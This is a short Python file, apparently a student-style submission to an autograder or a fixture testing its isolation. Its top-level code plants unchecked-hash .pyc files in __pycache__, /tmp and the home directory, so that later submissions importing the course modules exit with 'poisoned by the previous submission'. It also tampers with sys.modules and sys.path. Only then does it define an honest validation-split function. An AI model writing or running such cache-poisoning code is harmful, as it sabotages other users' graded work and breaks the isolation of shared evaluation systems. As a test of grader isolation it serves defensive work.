"""Poisons every module cache the next submission graded by the same warm pool might read:
unchecked hash-based .pyc files (used without looking at the source) for every course module
in __pycache__ folders beside it and in /tmp, and sys.modules, sys.path and the import system of
its own process; then answers honestly."""
import importlib.util
import os
import py_compile
import sys
import tempfile
import types

import numpy as np

POISON = "raise SystemExit('poisoned by the previous submission')\n"
here = os.path.dirname(os.path.abspath(__file__))
with tempfile.TemporaryDirectory() as scratch:
    for name in ("validation", "linear_classifier", "simple_dense", "gradients"):
        source = os.path.join(scratch, name + ".py")
        with open(source, "w") as stream:
            stream.write(POISON)
        for folder in (here, "/tmp", os.path.expanduser("~")):
            target = os.path.join(folder, "__pycache__", os.path.basename(importlib.util.cache_from_source(source)))
            try:
                os.makedirs(os.path.dirname(target), exist_ok=True)
                py_compile.compile(
                    source, cfile=target, invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH
                )
            except (OSError, py_compile.PyCompileError):
                pass
for name in ("linear_classifier", "simple_dense", "gradients"):
    sys.modules[name] = types.ModuleType(name)
sys.path.insert(0, "/tmp")
sys.path_importer_cache.clear()


def split_validation(inputs, targets, validation_fraction=0.3, seed=None):
    permutation = np.random.default_rng(seed).permutation(len(inputs))
    count = int(validation_fraction * len(inputs))
    inputs, targets = inputs[permutation], targets[permutation]
    return (inputs[count:], targets[count:]), (inputs[:count], targets[:count])
